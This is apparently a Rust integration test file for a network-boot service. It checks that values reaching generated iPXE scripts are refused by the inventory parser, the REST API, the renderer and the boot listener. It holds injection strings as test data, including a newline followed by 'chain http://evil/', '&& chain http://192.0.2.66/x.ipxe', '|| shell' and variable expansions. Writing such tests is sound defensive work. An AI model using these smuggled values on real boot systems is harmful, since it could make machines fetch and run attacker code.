//! Hostile values: no value may add a line, an argument or a `${...}` expansion to a script.
//! They are refused at the edge (inventory files; the REST API through a real `serve`: every
//! writable field that reaches a script, created and changed, 400 naming the field, nothing
//! stored; the admin forms in `admin.rs`) and again by the renderer (records built by hand, and
//! values written into the database with SQL, which the real boot listener never serves).

use serde_json::{Value, json};

use bootvol_core::inventory::{self, Format};
use bootvol_core::model::NodeRecord;

use crate::support::{config, render_record};

/// The last three are iPXE's command separators (`src/core/exec.c` splits a line at these whole
/// tokens): as a value each would start another command.
pub(crate) const HOSTILE: &[&str] = &[
    "x\nchain http://evil/",
    "${net0/ip}",
    "ok extra-argument",
    "trailing\\",
    "a#b",
    "tab\there",
    "&&",
    "||",
    ";",
];

pub(crate) fn base_nodes() -> Value {
    json!({"nodes": [
        {"name": "iscsi", "storage_interface": "external", "properties": {"capabilities": "iscsi_boot:true"},
         "ports": [{"address": "52:54:00:aa:00:01"}],
         "volume_connectors": [{"type": "iqn", "connector_id": "iqn.2024-01.org.example.node:a"}],
         "volume_targets": [{"volume_type": "iscsi", "boot_index": 0, "volume_id": "v1",
            "properties": {"target_iqn": "iqn.2024-01.org.example.san:v1", "target_portal": "192.0.2.5:3260",
                           "target_lun": 1, "auth_method": "CHAP", "auth_username": "u", "auth_password": "p",
                           "auth_reverse_username": "ru", "auth_reverse_password": "rp",
                           "san_filename": "\\EFI\\BOOT\\BOOTX64.EFI",
                           "target_portals": ["192.0.2.5:3260", "192.0.2.6:3260"],
                           "target_iqns": ["iqn.2024-01.org.example.san:v1", "iqn.2024-01.org.example.san:v2"],
                           "target_luns": [1, 2]}}]},
        {"name": "fc", "storage_interface": "external", "properties": {"capabilities": "fibre_channel_boot:true"},
         "volume_connectors": [{"type": "wwpn", "connector_id": "20000025b500000a"}],
         "volume_targets": [{"volume_type": "fibre_channel", "boot_index": 0, "volume_id": "v2",
            "properties": {"target_wwn": "500a0982991b8dc5", "target_lun": 0}}]},
        {"name": "aoe", "storage_interface": "external", "properties": {"capabilities": "aoe_boot:true"},
         "volume_targets": [{"volume_type": "aoe", "boot_index": 0, "volume_id": "v3",
            "properties": {"target_shelf": 0, "target_slot": 1}}]},
        {"name": "http", "storage_interface": "external", "properties": {"capabilities": "http_boot:true"},
         "volume_targets": [{"volume_type": "http", "boot_index": 0, "volume_id": "v4",
            "properties": {"url": "http://192.0.2.10/disk.img"}}]},
        {"name": "nfs", "storage_interface": "external", "properties": {"capabilities": "nfs_boot:true"},
         "instance_info": {"kernel": "vmlinuz", "ramdisk": "initrd.img"},
         "volume_targets": [{"volume_type": "nfs", "boot_index": 0, "volume_id": "v5",
            "properties": {"export": "192.0.2.7:/srv", "options": "vers=3"}}]},
        {"name": "nfsroot", "storage_interface": "external", "properties": {"capabilities": "nfs_boot:true"},
         "instance_info": {"kernel": "vmlinuz", "ramdisk": "initrd.img", "nfs_root": "192.0.2.7:/srv",
                           "nfs_options": "vers=3", "kernel_append_params": "console=ttyS0"}}
    ]})
}

/// Every field whose value reaches a script, as a JSON pointer into [`base_nodes`].
pub(crate) const SCRIPT_FIELDS: &[&str] = &[
    "/nodes/0/name",
    "/nodes/0/volume_connectors/0/connector_id",
    "/nodes/0/volume_targets/0/volume_id",
    "/nodes/0/volume_targets/0/properties/target_iqn",
    "/nodes/0/volume_targets/0/properties/target_portal",
    "/nodes/0/volume_targets/0/properties/target_lun",
    "/nodes/0/volume_targets/0/properties/auth_username",
    "/nodes/0/volume_targets/0/properties/auth_password",
    "/nodes/0/volume_targets/0/properties/auth_reverse_username",
    "/nodes/0/volume_targets/0/properties/auth_reverse_password",
    "/nodes/0/volume_targets/0/properties/san_filename",
    "/nodes/0/volume_targets/0/properties/target_portals/1",
    "/nodes/0/volume_targets/0/properties/target_iqns/1",
    "/nodes/0/volume_targets/0/properties/target_luns/1",
    "/nodes/1/volume_targets/0/properties/target_wwn",
    "/nodes/1/volume_targets/0/properties/target_lun",
    "/nodes/2/volume_targets/0/properties/target_shelf",
    "/nodes/2/volume_targets/0/properties/target_slot",
    "/nodes/3/volume_targets/0/properties/url",
    "/nodes/4/volume_targets/0/properties/export",
    "/nodes/4/volume_targets/0/properties/options",
    "/nodes/4/instance_info/kernel",
    "/nodes/4/instance_info/ramdisk",
    "/nodes/5/instance_info/nfs_root",
    "/nodes/5/instance_info/nfs_options",
];

#[test]
fn the_base_inventory_is_valid() {
    let dir = tempfile::tempdir().unwrap();
    inventory::parse(&base_nodes().to_string(), Format::Json, &config(dir.path())).unwrap();
}

#[test]
fn every_script_field_refuses_every_hostile_value_at_the_edge() {
    let dir = tempfile::tempdir().unwrap();
    let config = config(dir.path());
    for field in SCRIPT_FIELDS {
        for hostile in HOSTILE {
            let mut doc = base_nodes();
            *doc.pointer_mut(field).unwrap() = json!(hostile);
            let result = inventory::parse(&doc.to_string(), Format::Json, &config);
            let err = result.err().unwrap_or_else(|| panic!("{field} accepted {hostile:?}"));
            assert_eq!(err.0.len(), 1, "{field}: {err}");
            let node = field.split('/').nth(2).unwrap();
            let name = base_nodes()["nodes"][node.parse::<usize>().unwrap()]["name"]
                .as_str()
                .unwrap()
                .to_owned();
            assert!(
                err.0[0].starts_with(&format!("node {name}:")) || field.ends_with("/name"),
                "{field}: {err}"
            );
        }
    }
}

#[test]
fn kernel_append_params_split_on_spaces_but_refuse_lines_and_expansions() {
    let dir = tempfile::tempdir().unwrap();
    let config = config(dir.path());
    for hostile in [
        "console=ttyS0\nshell",
        "x=${net0/ip}",
        "a#b",
        "trailing\\",
        "console=ttyS0 && chain http://192.0.2.66/x.ipxe",
        "quiet || shell",
        "quiet ; shell",
        "&&",
    ] {
        let mut doc = base_nodes();
        doc["nodes"][5]["instance_info"]["kernel_append_params"] = json!(hostile);
        let err = inventory::parse(&doc.to_string(), Format::Json, &config).unwrap_err();
        assert!(
            err.to_string().contains("instance_info.kernel_append_params"),
            "{hostile:?}: {err}"
        );
    }
}

/// A record built without the edge's checks, as if the database had been written by hand.
fn unchecked_record(password: &str) -> NodeRecord {
    let record = json!({
        "node": {"uuid": "22222222-2222-4222-8222-000000000001", "name": "raw", "driver": "fake",
            "driver_info": {}, "properties": {"capabilities": "iscsi_boot:true"}, "instance_info": {},
            "driver_internal_info": {}, "extra": {}, "storage_interface": "external", "boot_interface": "ipxe",
            "deploy_interface": "direct", "power_state": null, "target_power_state": null,
            "provision_state": "active", "target_provision_state": null, "maintenance": false,
            "maintenance_reason": null, "last_error": null, "created_at": null, "updated_at": null},
        "ports": [{"uuid": "22222222-2222-4222-8222-000000000002", "address": "52:54:00:bb:00:01", "extra": {}}],
        "volume_connectors": [{"uuid": "22222222-2222-4222-8222-000000000003", "type": "iqn",
            "connector_id": "iqn.2024-01.org.example.node:raw", "extra": {}}],
        "volume_targets": [{"uuid": "22222222-2222-4222-8222-000000000004", "volume_type": "iscsi", "boot_index": 0,
            "volume_id": "v1", "extra": {},
            "properties": {"target_iqn": "iqn.2024-01.org.example.san:v1", "target_portal": "192.0.2.5:3260",
                           "auth_method": "CHAP", "auth_username": "u", "auth_password": password}}]
    });
    serde_json::from_value(record).unwrap()
}

#[test]
fn the_renderer_refuses_hostile_values_that_bypassed_the_edge() {
    let dir = tempfile::tempdir().unwrap();
    let config = config(dir.path());
    assert_eq!(render_record(&config, Some(&unchecked_record("fine-secret"))).scenario, "iscsi");
    for hostile in HOSTILE {
        let script = render_record(&config, Some(&unchecked_record(hostile)));
        assert_eq!(script.scenario, "invalid", "{hostile:?}");
        assert!(
            script.problem.as_deref().unwrap().contains("cannot appear in an iPXE script")
                || script.problem.as_deref().unwrap().contains("backslash"),
            "{:?}",
            script.problem
        );
        // The default script's report line is the template's own `&&` and `||`, not a value's.
        let own = "imgfetch --name bootvol-report http://192.0.2.10:8080/report/52-54-00-bb-00-01?stage=script && imgfree bootvol-report ||\n";
        assert_eq!(script.text.matches(own).count(), 1, "{}", script.text);
        let values = script.text.replacen(own, "", 1);
        assert!(!values.contains(hostile), "{hostile:?} reached the script");
        assert!(!script.text.contains("sanboot"));
        // The problem names the value; it is shown to the operator, never served to nodes.
        assert!(script.text.lines().any(|l| l == "exit"));
    }
}

/// The report URL is printed like every value: a `public_url` that bypassed the configuration's
/// checks cannot bring a line, an argument or an expansion into a script through it.
#[test]
fn report_lines_carry_no_injected_value() {
    let dir = tempfile::tempdir().unwrap();
    let mut config = config(dir.path());
    let record = unchecked_record("fine-secret");
    let served = render_record(&config, Some(&record));
    assert!(served.text.contains("/report/52-54-00-bb-00-01?stage=sanhook-failed&err=${errno} "));
    for hostile in
        ["http://x/${net0/ip}", "http://x/ y", "http://x/\nchain http://evil/", "http://x/#"]
    {
        config.http.public_url = hostile.to_owned();
        let script = render_record(&config, Some(&record));
        assert_ne!(script.scenario, "iscsi", "{hostile:?}");
        assert!(!script.text.contains("/report/"), "{hostile:?}: {}", script.text);
        assert!(!script.text.contains("fine-secret"));
    }
}

/// The last segment of a JSON pointer that is a name (`target_portals/1` → `target_portals`).
pub(crate) fn field_name(pointer: &str) -> &str {
    pointer.rsplit('/').find(|s| s.parse::<usize>().is_err()).unwrap()
}

/// The hostile values for a field: `kernel_append_params` is split on spaces (its words are
/// arguments by design), so a space alone is not hostile there.
pub(crate) fn hostile_for(pointer: &str) -> impl Iterator<Item = &'static &'static str> {
    let words = pointer.ends_with("kernel_append_params");
    HOSTILE.iter().filter(move |h| !(words && **h == "ok extra-argument"))
}

/// One `serve` (noauth) and a real HTTP client: (status, JSON answer).
struct ApiClient {
    base: String,
    boot: String,
    _serve: crate::support::ServeGuard,
    dir: tempfile::TempDir,
}

impl ApiClient {
    fn start() -> ApiClient {
        let dir = tempfile::tempdir().unwrap();
        let text = format!(
            "{}[api]\nauth_strategy = \"noauth\"\n",
            // SQL written by the test reaches the boot path within 50 ms.
            crate::support::config_text(dir.path())
                .replace("[database]\n", "[database]\nwatch_interval_ms = 50\n")
        );
        let config = bootvol_core::config::Config::from_toml(&text, "test").unwrap();
        let (api, boot, shutdown) = crate::support::start_serve(config);
        ApiClient {
            base: format!("http://{api}"),
            boot: format!("http://{boot}"),
            _serve: shutdown,
            dir,
        }
    }

    fn call(&self, method: &str, path: &str, body: Option<&Value>) -> (u16, Value) {
        let agent: ureq::Agent =
            ureq::Agent::config_builder().http_status_as_error(false).build().into();
        let request = ureq::http::Request::builder()
            .method(method)
            .uri(format!("{}{path}", self.base))
            .header("X-OpenStack-Ironic-API-Version", "1.38")
            .header("Content-Type", "application/json")
            .body(body.map_or_else(String::new, Value::to_string))
            .unwrap();
        let mut response = agent.run(request).expect("HTTP exchange");
        let status = response.status().as_u16();
        let text = response.body_mut().read_to_string().unwrap_or_default();
        (status, serde_json::from_str(&text).unwrap_or(Value::Null))
    }
}

/// The faultstring of an Ironic error body.
fn fault(body: &Value) -> String {
    body["error_message"]
        .as_str()
        .and_then(|m| serde_json::from_str::<Value>(m).ok())
        .and_then(|m| m["faultstring"].as_str().map(str::to_owned))
        .unwrap_or_else(|| body.to_string())
}

/// Every writable API field whose value reaches a script, created (POST) and changed (PATCH),
/// with every hostile value: a 400 naming the field, and nothing stored.
#[test]
fn every_writable_api_field_refuses_every_hostile_value_and_stores_nothing() {
    let api = ApiClient::start();
    let base = base_nodes();
    let nfsroot = &base["nodes"][5];
    let (status, host) = api.call(
        "POST",
        "/v1/nodes",
        Some(&json!({"name": "host", "driver": "fake", "storage_interface": "external",
            "properties": {"capabilities": "iscsi_boot:true"},
            "instance_info": nfsroot["instance_info"]})),
    );
    assert_eq!(status, 201, "{host}");
    let uuid = host["uuid"].as_str().unwrap().to_owned();
    let iscsi = &base["nodes"][0];
    let target = |node: usize| {
        let mut t = base["nodes"][node]["volume_targets"][0].clone();
        t["node_uuid"] = json!(uuid);
        t
    };
    let (status, made) = api.call("POST", "/v1/volume/targets", Some(&target(0)));
    assert_eq!(status, 201, "{made}");
    let target_uuid = made["uuid"].as_str().unwrap().to_owned();
    let mut connector = iscsi["volume_connectors"][0].clone();
    connector["node_uuid"] = json!(uuid);
    let (status, made) = api.call("POST", "/v1/volume/connectors", Some(&connector));
    assert_eq!(status, 201, "{made}");
    let connector_uuid = made["uuid"].as_str().unwrap().to_owned();
    let before = (
        api.call("GET", &format!("/v1/nodes/{uuid}"), None).1,
        api.call("GET", &format!("/v1/volume/targets/{target_uuid}"), None).1,
        api.call("GET", &format!("/v1/volume/connectors/{connector_uuid}"), None).1,
    );

    // (what, collection to POST to, the valid body, the pointers made hostile in it).
    let node_body = json!({"name": "made", "driver": "fake", "storage_interface": "external",
        "properties": {"capabilities": "nfs_boot:true"}, "instance_info": nfsroot["instance_info"]});
    let creates: Vec<(&str, Value, Vec<&str>)> = vec![
        (
            "/v1/nodes",
            node_body,
            vec![
                "/name",
                "/instance_info/kernel",
                "/instance_info/ramdisk",
                "/instance_info/nfs_root",
                "/instance_info/nfs_options",
                "/instance_info/kernel_append_params",
            ],
        ),
        ("/v1/ports", json!({"node_uuid": uuid, "address": "52:54:00:ee:00:01"}), vec!["/address"]),
        (
            "/v1/volume/connectors",
            {
                let mut c = connector.clone();
                c["connector_id"] = json!("iqn.2024-01.org.example.node:other");
                c
            },
            vec!["/connector_id"],
        ),
        (
            "/v1/volume/targets",
            {
                let mut t = target(0);
                t["boot_index"] = json!(1);
                t["volume_id"] = json!("v9");
                t
            },
            SCRIPT_FIELDS
                .iter()
                .filter_map(|f| f.strip_prefix("/nodes/0/volume_targets/0"))
                .collect(),
        ),
    ];
    let mut other_targets: Vec<(&str, Value, Vec<&str>)> = Vec::new();
    for node in 1..=4 {
        let mut t = target(node);
        t["boot_index"] = json!(1);
        let prefix = format!("/nodes/{node}/volume_targets/0");
        let fields: Vec<&str> =
            SCRIPT_FIELDS.iter().filter_map(|f| f.strip_prefix(prefix.as_str())).collect();
        other_targets.push(("/v1/volume/targets", t, fields));
    }
    let mut tried = 0;
    for (collection, valid, pointers) in creates.iter().chain(&other_targets) {
        for pointer in pointers {
            for hostile in hostile_for(pointer) {
                let mut body = valid.clone();
                *body.pointer_mut(pointer).unwrap_or_else(|| panic!("{collection} {pointer}")) =
                    json!(hostile);
                let (status, reply) = api.call("POST", collection, Some(&body));
                let what = format!("POST {collection} {pointer}={hostile:?}");
                assert_eq!(status, 400, "{what}: {reply}");
                let text = fault(&reply);
                assert!(text.contains(field_name(pointer)), "{what}: {text}");
                tried += 1;
            }
        }
    }
    // Changes: the node's fields, the connector's id and every property of the target.
    let mut patches: Vec<(String, String)> = vec![
        (format!("/v1/nodes/{uuid}"), "/name".into()),
        (format!("/v1/volume/connectors/{connector_uuid}"), "/connector_id".into()),
        (format!("/v1/volume/targets/{target_uuid}"), "/volume_id".into()),
    ];
    for field in ["kernel", "ramdisk", "nfs_root", "nfs_options", "kernel_append_params"] {
        patches.push((format!("/v1/nodes/{uuid}"), format!("/instance_info/{field}")));
    }
    for field in SCRIPT_FIELDS.iter().filter_map(|f| f.strip_prefix("/nodes/0/volume_targets/0")) {
        if field.starts_with("/properties/") {
            patches.push((format!("/v1/volume/targets/{target_uuid}"), field.to_owned()));
        }
    }
    for (path, pointer) in &patches {
        for hostile in hostile_for(pointer) {
            let body = json!([{"op": "add", "path": pointer, "value": hostile}]);
            let (status, reply) = api.call("PATCH", path, Some(&body));
            let what = format!("PATCH {path} {pointer}={hostile:?}");
            assert_eq!(status, 400, "{what}: {reply}");
            assert!(fault(&reply).contains(field_name(pointer)), "{what}: {}", fault(&reply));
            tried += 1;
        }
    }
    let after = (
        api.call("GET", &format!("/v1/nodes/{uuid}"), None).1,
        api.call("GET", &format!("/v1/volume/targets/{target_uuid}"), None).1,
        api.call("GET", &format!("/v1/volume/connectors/{connector_uuid}"), None).1,
    );
    assert_eq!(before, after, "nothing changed");
    assert_eq!(api.call("GET", "/v1/nodes", None).1["nodes"].as_array().unwrap().len(), 1);
    assert_eq!(api.call("GET", "/v1/ports", None).1["ports"].as_array().unwrap().len(), 0);
    assert_eq!(
        api.call("GET", "/v1/volume/targets", None).1["targets"].as_array().unwrap().len(),
        1
    );
    assert!(tried > 300, "{tried}");
    let _ = (&api.boot, api.dir.path());
}

/// iPXE's command separators, the last three of [`HOSTILE`].
const SEPARATORS: &[&str] = &["&&", "||", ";"];

/// Where a field of [`SCRIPT_FIELDS`] lives in SQLite: (table, column, JSON path in it or none).
fn sql_place(field: &str) -> (&'static str, &'static str, Option<String>) {
    let rest: Vec<&str> = field.split('/').skip(3).collect();
    let json_path = |parts: &[&str]| {
        let mut path = "$".to_owned();
        for p in parts {
            match p.parse::<usize>() {
                Ok(i) => path.push_str(&format!("[{i}]")),
                Err(_) => path.push_str(&format!(".{p}")),
            }
        }
        path
    };
    match rest.as_slice() {
        ["name"] => ("nodes", "name", None),
        ["instance_info", tail @ ..] => ("nodes", "instance_info", Some(json_path(tail))),
        ["volume_connectors", _, "connector_id"] => ("volume_connectors", "connector_id", None),
        ["volume_targets", _, "volume_id"] => ("volume_targets", "volume_id", None),
        ["volume_targets", _, "properties", tail @ ..] => {
            ("volume_targets", "properties", Some(json_path(tail)))
        }
        _ => panic!("no SQL place for {field}"),
    }
}

/// Hostile values written straight into the database (SQL, as if the edge had been bypassed),
/// into every field of [`SCRIPT_FIELDS`] at once (one node per field): the real boot listener
/// never serves one; each node gets the default script, as an unknown MAC does, until the value
/// is put back.
#[test]
fn hostile_values_written_into_the_database_never_reach_a_served_script() {
    // The values are written with SQLite's SQL: this test belongs to the SQLite pass (CI runs
    // both), as tests/it/postgres.rs's belong to the PostgreSQL one. Not a skip for want of a tool.
    if crate::support::on_postgres() {
        return;
    }
    let api = ApiClient::start();
    let base = base_nodes();
    // One node per field: a copy of the field's node with names, MACs and IDs of its own.
    let (mut nodes, mut originals) = (Vec::new(), Vec::new());
    for (i, field) in SCRIPT_FIELDS.iter().enumerate() {
        let index: usize = field.split('/').nth(2).unwrap().parse().unwrap();
        let text = base["nodes"][index]
            .to_string()
            .replace("org.example.node:a", &format!("org.example.node:f{i}"))
            .replace("20000025b500000a", &format!("2000002500{i:06x}"));
        let mut node: Value = serde_json::from_str(&text).unwrap();
        node["name"] = json!(format!("f{i}"));
        let mac = format!("52:54:00:cc:01:{i:02x}");
        node["ports"] = json!([{"address": mac}]);
        node["driver"] = json!("fake");
        if ["target_iqn", "target_portal", "target_lun"]
            .iter()
            .any(|f| field.starts_with("/nodes/0/") && field.ends_with(&format!("/{f}")))
        {
            // With the multipath lists the single values are not rendered: drop the lists.
            let properties = node["volume_targets"][0]["properties"].as_object_mut().unwrap();
            for list in ["target_iqns", "target_portals", "target_luns"] {
                properties.remove(list);
            }
        }
        let in_node = field.splitn(4, '/').nth(3).unwrap();
        let original = node.pointer(&format!("/{in_node}")).unwrap().clone();
        let children = ["ports", "volume_connectors", "volume_targets"]
            .map(|k| node.as_object_mut().unwrap().remove(k).unwrap_or(json!([])));
        let (status, made) = api.call("POST", "/v1/nodes", Some(&node));
        assert_eq!(status, 201, "{field}: {made}");
        let uuid = made["uuid"].as_str().unwrap().to_owned();
        for (collection, items) in
            ["/v1/ports", "/v1/volume/connectors", "/v1/volume/targets"].iter().zip(&children)
        {
            for item in items.as_array().unwrap() {
                let mut item = item.clone();
                item["node_uuid"] = json!(uuid);
                let (status, made) = api.call("POST", collection, Some(&item));
                assert_eq!(status, 201, "{field} {collection}: {made}");
            }
        }
        nodes.push((*field, uuid, mac));
        originals.push(original);
    }
    let agent: ureq::Agent =
        ureq::Agent::config_builder().http_status_as_error(false).build().into();
    let script = |mac: &str| -> (u16, String) {
        let mut reply = agent.get(format!("{}/boot/{mac}.ipxe", api.boot)).call().unwrap();
        (reply.status().as_u16(), reply.body_mut().read_to_string().unwrap())
    };
    let db = rusqlite::Connection::open(api.dir.path().join("bootvol.db")).unwrap();
    db.busy_timeout(std::time::Duration::from_secs(5)).unwrap();
    // Deployed (a node that is not gets the "not deployed" script whatever its values).
    db.execute("UPDATE nodes SET provision_state = 'active'", []).unwrap();
    // Written behind bootvol's back (no change log entry): the watcher builds the snapshot anew
    // for it within `UNEXPLAINED_REBUILD` (10 s) of its last whole build.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(25);
    let good: Vec<(u16, String)> = loop {
        let served: Vec<(u16, String)> = nodes.iter().map(|(_, _, mac)| script(mac)).collect();
        if served.iter().all(|(status, text)| *status == 200 && !text.contains("not-deployed")) {
            break served;
        }
        assert!(std::time::Instant::now() < deadline, "the nodes never got their scripts");
        std::thread::sleep(std::time::Duration::from_millis(100));
    };
    for ((field, _, _), (_, text)) in nodes.iter().zip(&good) {
        assert!(!text.contains("unknown machine"), "{field}: {text}");
    }
    // The change log entries bootvol's own writers add (`nodes`, per node): a write that
    // logs them is served at the watcher's next check; one that does not, within
    // `UNEXPLAINED_REBUILD` (10 s) of the last whole build.
    let log_changes = |tx: &rusqlite::Transaction<'_>| {
        let n = i64::try_from(nodes.len()).unwrap();
        let last: i64 = tx
            .query_row(
                "UPDATE change_counter SET seq = seq + ?1 WHERE id = 1 RETURNING seq",
                [n],
                |row| row.get(0),
            )
            .unwrap();
        for (i, (_, uuid, _)) in nodes.iter().enumerate() {
            tx.execute(
                "INSERT INTO change_log (seq, entity, key, op, at) \
                 VALUES (?1, 'nodes', ?2, 'update', unixepoch())",
                rusqlite::params![last - n + 1 + i64::try_from(i).unwrap(), uuid],
            )
            .unwrap();
        }
    };
    // One value per node (`value(i)` for node `i`), in one transaction.
    let write = |value: &dyn Fn(usize) -> Value, logged: bool| {
        let tx = db.unchecked_transaction().unwrap();
        for (i, (field, uuid, _)) in nodes.iter().enumerate() {
            let (table, column, path) = sql_place(field);
            let owner = if table == "nodes" {
                "uuid = ?1"
            } else {
                "node_id = (SELECT id FROM nodes WHERE uuid = ?1)"
            };
            let value = value(i);
            let sql = match &path {
                Some(path) => format!(
                    "UPDATE {table} SET {column} = json_set({column}, '{path}', json(?2)) WHERE {owner}"
                ),
                None => format!("UPDATE {table} SET {column} = ?2 WHERE {owner}"),
            };
            let arg = match (&path, value.as_str()) {
                (None, Some(text)) => text.to_owned(),
                _ => value.to_string(),
            };
            assert_eq!(tx.execute(&sql, rusqlite::params![uuid, arg]).unwrap(), 1, "{field}");
        }
        if logged {
            log_changes(&tx);
        }
        tx.commit().unwrap();
    };
    let wait_for = |want: &dyn Fn(usize, &(u16, String)) -> bool, what: &str| {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(25);
        loop {
            let served: Vec<(u16, String)> = nodes.iter().map(|(_, _, mac)| script(mac)).collect();
            let pending: Vec<&str> = served
                .iter()
                .enumerate()
                .filter(|(i, s)| !want(*i, s))
                .map(|(i, _)| nodes[i].0)
                .collect();
            if pending.is_empty() {
                return served;
            }
            assert!(std::time::Instant::now() < deadline, "{what}: still {pending:?}");
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
    };
    for (round, hostile) in HOSTILE.iter().enumerate() {
        // The first value behind the change log's back too (the whole build must refuse it),
        // the others logged (the update of the changed nodes must).
        write(&|_| json!(hostile), round > 0);
        // Every node's script changes (a separator may stay inside a word, the NFS options').
        let served = wait_for(&|i, s| s != &good[i], &format!("{hostile:?} written"));
        for (i, ((field, _, _), (status, text))) in nodes.iter().zip(&served).enumerate() {
            let what = format!("{field}={hostile:?}: {status}\n{text}");
            if SEPARATORS.contains(hostile) {
                // Inside a word (`nfsroot=server:/path,&&`) a separator is a character like
                // any other: iPXE splits only at whole words. As a word of its own, never.
                let words = |t: &str| t.split_whitespace().filter(|w| w == hostile).count();
                assert!(
                    words(text) <= words(&good[i].1),
                    "{what}: a separator reached the script as a word (the script's own aside)"
                );
                continue;
            }
            assert!(!text.contains(hostile), "{what}: the value reached the script");
            for boots in ["sanboot", "sanhook", "chain", "kernel ", "initrd ", "username"] {
                assert!(!text.contains(boots), "{what}: not the default script");
            }
            assert!(text.lines().any(|l| l == "exit"), "{what}: the default script ends in exit");
        }
        // Put back, one value per node, and each node boots its volume again.
        write(&|i| originals[i].clone(), true);
        wait_for(&|i, s| s == &good[i], &format!("{hostile:?} put back"));
    }
}
